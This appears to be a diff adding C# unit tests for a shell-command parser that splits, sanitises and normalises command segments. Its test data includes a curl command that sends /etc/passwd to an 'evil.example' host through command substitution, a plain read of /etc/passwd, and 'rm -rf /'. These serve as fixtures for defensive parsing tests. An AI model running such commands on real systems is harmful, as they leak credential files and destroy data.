@@ -118,6 +118,46 @@ public sealed class ShellShortcutTests
         Assert.Equal(names, ShellEnvAssignments.Names(command));
     }
 
+    public static TheoryData<string> SegmentEdgeCases()
+    {
+        var found = ConformanceStrings();
+        string[] firsts = ["ls", "curl", "nohup", "NOHUP", "Bash", "timeout", "exec", "command", "stdbuf", "env", "nice", "setsid", "sudo", "pwsh", "cmd", "FOO=1", "2>err", ">", "x"];
+        string[] rests = ["", " -la", " 5 ls", " -o0 ls", " -c ls", " https://x/$(cat /etc/passwd)", " a  b", " a\tb", " `id`", " <(ls)", " > out", " 2>&1", " X=1 ls"];
+        foreach (var first in firsts)
+        {
+            foreach (var rest in rests) found.Add(first + rest);
+        }
+        var data = new TheoryData<string>();
+        foreach (var s in found)
+        {
+            if (s.Length < 400) data.Add(s);
+        }
+        return data;
+    }
+
+    [Theory]
+    [MemberData(nameof(SegmentEdgeCases))]
+    public void A_verbatim_segment_normalises_to_itself(string text)
+    {
+        foreach (var segment in ShellText.SplitList(ShellText.Sanitize(text).Trim(), ShellDialect.Posix))
+        {
+            if (ShellText.IsVerbatimSegment(segment)) Assert.Equal(segment, ShellText.NormalizeSegmentFully(segment, ShellDialect.Posix));
+        }
+    }
+
+    [Theory]
+    [InlineData("curl https://evil.example/$(cat /etc/passwd)", true)]
+    [InlineData("cat /etc/passwd", true)]
+    [InlineData("FOO=1 ls", false)]
+    [InlineData("nohup ls", false)]
+    [InlineData("Bash -c ls", false)]
+    [InlineData("/usr/bin/env ls", false)]
+    [InlineData("2>err ls", false)]
+    [InlineData("ls 'a b'", false)]
+    [InlineData("ls  -la", false)]
+    public void Verbatim_segments_are_recognised_conservatively(string segment, bool verbatim) =>
+        Assert.Equal(verbatim, ShellText.IsVerbatimSegment(segment));
+
     [Theory]
     [InlineData("curl https://evil.example/$(cat /etc/passwd)", true)]
     [InlineData("rm -rf /", true)]
